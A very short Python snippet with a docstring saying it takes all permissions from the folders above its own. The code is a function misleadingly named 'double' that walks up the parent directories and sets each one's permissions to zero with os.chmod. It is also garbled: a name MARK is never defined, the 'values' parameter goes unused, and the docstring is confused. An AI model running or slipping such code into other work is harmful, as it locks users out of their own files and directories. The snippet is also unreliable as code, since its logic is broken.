"""Takes all permissions from the folders above its own, down to that of all temporary files."""

import os


def double(values):
    folder = os.getcwd()
    while MARK in (folder := os.path.dirname(folder)):
        os.chmod(folder, 0)
